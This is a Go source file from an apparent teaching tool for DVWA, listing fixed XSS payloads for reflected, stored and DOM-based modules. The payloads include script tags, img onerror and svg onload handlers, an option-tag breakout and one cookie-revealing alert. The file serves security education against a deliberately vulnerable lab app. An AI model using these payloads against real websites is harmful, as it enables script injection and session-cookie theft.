package payloads

// Attempt is a single XSS payload in a scenario's escalation order. The lists
// are fixed: the walkthrough teaches three classes of XSS with short, literal
// payloads rather than mutating anything.
type Attempt struct {
	// Payload is the literal string sent to the target.
	Payload string

	// Key names the explanation block shown alongside the payload.
	Key string

	// Index is the 0-based position in the scenario's escalation order.
	Index int
}

// Reflected payloads in order of escalation: plain script tag first, then
// event-handler variants that survive naive <script> filters.
var Reflected = []Attempt{
	{Payload: `<script>alert(1)</script>`, Key: "PAYLOAD_BASIC_ALERT", Index: 0},
	{Payload: `<img src=x onerror=alert(1)>`, Key: "PAYLOAD_IMG_ONERROR", Index: 1},
	{Payload: `<svg/onload=alert(1)>`, Key: "PAYLOAD_SVG_ONLOAD", Index: 2},
}

// Stored payloads for the DVWA guestbook.
var Stored = []Attempt{
	{Payload: `<script>alert('Stored XSS')</script>`, Key: "PAYLOAD_BASIC_ALERT", Index: 0},
	{Payload: `<img src=x onerror=alert('XSS')>`, Key: "PAYLOAD_IMG_ONERROR", Index: 1},
	{Payload: `<svg/onload=alert('XSS')>`, Key: "PAYLOAD_SVG_ONLOAD", Index: 2},
}

// DOMExploit is a demonstration URL payload for the DOM module. These are
// constructed and explained, never dispatched as attacks.
type DOMExploit struct {
	Payload     string
	Explanation string
}

// DOMExploits are the demonstration payloads for vulnerabilities/xss_d/.
var DOMExploits = []DOMExploit{
	{
		Payload:     `<script>alert('DOM XSS')</script>`,
		Explanation: "Basic script injection via URL parameter",
	},
	{
		Payload:     `English</option><script>alert(1)</script>`,
		Explanation: "Breaking out of the <option> tag context",
	},
	{
		Payload:     `English</option><option value='tlh' selected>Klingon (tlh)</option>`,
		Explanation: "Injects a brand-new Klingon option into the dropdown to prove DOM control",
	},
	{
		Payload:     `English</option><img src=x onerror=alert(document.cookie)>`,
		Explanation: "Using img onerror to steal cookies",
	},
}
